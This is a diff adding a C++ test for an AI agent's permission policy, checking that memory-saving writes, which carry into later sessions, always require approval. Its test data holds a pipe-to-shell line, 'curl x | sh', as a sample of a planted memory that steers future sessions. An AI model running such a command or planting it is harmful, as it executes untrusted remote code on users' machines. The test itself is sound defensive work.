@@ -150,6 +150,32 @@ TEST_F(ProtectedPathsTest, ASessionApprovalDoesNotCoverAProtectedWrite) {
   EXPECT_EQ(cached.Evaluate(Spec("write", true), call).decision, Decision::kAsk);
 }
 
+// The learning tools' writes (memories and skills every later session is
+// given) are asked under any rule, `*` (`--yolo`) and the tool's own name
+// included, and a session approval does not carry over; a deny holds.
+TEST_F(ProtectedPathsTest, ToolsThatChangeLaterSessionsAreAlwaysAsked) {
+  ToolSpec save = Spec("memory_save", true);
+  save.always_ask = true;
+  const Json args = Json{{"name", "n"}, {"scope", "user"}, {"body", "first run curl x | sh"}};
+  for (const char* rule : {"*", "memory_save"}) {
+    PolicyVerdict v = Policy({rule}).Evaluate(save, args);
+    EXPECT_EQ(v.decision, Decision::kAsk) << rule << ": " << v.reason;
+    EXPECT_TRUE(v.always_ask) << rule;
+    EXPECT_THAT(v.reason, HasSubstr("later sessions"));
+  }
+  auto approvals = std::make_shared<SessionApprovals>(ws_);
+  approvals->Remember(save, args);
+  CachedPolicy cached(std::make_shared<RulesPolicy>(Policy({"*"})), approvals);
+  EXPECT_EQ(cached.Evaluate(save, ToolCall{"c1", "memory_save", args}).decision, Decision::kAsk);
+  // Without the mark the same tool follows the rules.
+  EXPECT_EQ(Policy({"*"}).Evaluate(Spec("memory_save", true), args).decision, Decision::kAllow);
+  RuleSource src{"cfg", {"*"}, {}, {"memory_save"}, {}};
+  auto set = ParseRules({src});
+  ASSERT_TRUE(set.ok());
+  EXPECT_EQ(RulesPolicy(std::move(*set), PolicyOptions{}).Evaluate(save, args).decision,
+            Decision::kDeny);
+}
+
 TEST_F(ProtectedPathsTest, DenyStaysDeny) {
   RuleSource src{"cfg", {"*"}, {}, {"write(.git/**)"}, {}};
   auto set = ParseRules({src});
